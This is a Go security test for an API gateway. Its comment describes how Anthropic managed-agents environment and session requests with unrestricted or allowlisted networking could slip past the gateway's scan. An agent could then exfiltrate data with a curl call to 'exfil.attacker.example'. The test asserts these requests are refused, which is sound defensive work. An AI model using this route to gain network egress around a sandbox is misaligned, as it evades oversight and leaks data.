package gateway

import "testing"

// FINDING (medium, with Anthropic's managed-agents endpoints added): the
// scan refuses OpenAI's network_policy (a hosted container given network
// access) but not Anthropic's equivalent. Claude Managed Agents run an
// agent's bash and web tools in an Anthropic-hosted cloud container whose
// network is set by the environment the request creates: POST
// /v1/environments {"name":..,"config":{"type":"cloud","networking":
// {"type":"unrestricted"}}} or {"type":"limited","allowed_hosts":[...],
// "allow_mcp_servers":true,"allow_package_managers":true}
// (anthropic-sdk-go v2.15.0 betaenvironment.go: path "v1/environments",
// BetaCloudConfigParams.Networking, "Any of \"unrestricted\",
// \"limited\"", BetaLimitedNetworkParams.AllowedHosts). A session (POST
// /v1/sessions {"agent":<id>,"environment_id":<id>}, betasession.go)
// then runs any of the organisation's existing agents that has the
// agent toolset in it, and its `curl https://<host>/?d=...` leaves from
// Anthropic's container to the host the sandbox put in allowed_hosts.
// The environment request names no tool and no URL member, so it is
// forwarded; like network_policy, a networking other than none should be
// refused.
func TestAttackProviderToolsAnthropicEnvironmentNetworking(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"anthropic": {"POST /v1/environments", "POST /v1/sessions"}}))
	tok := e.mint(t, Grant{Providers: []string{"anthropic"}}).Token
	for _, body := range []string{
		`{"name":"x","config":{"type":"cloud","networking":{"type":"unrestricted"}}}`,
		`{"name":"x","config":{"type":"cloud","networking":{"type":"limited","allowed_hosts":["exfil.attacker.example"],"allow_mcp_servers":true}}}`,
	} {
		attackExpectRefused(t, e, tok, "anthropic", "/v1/environments", body, nil)
	}
}
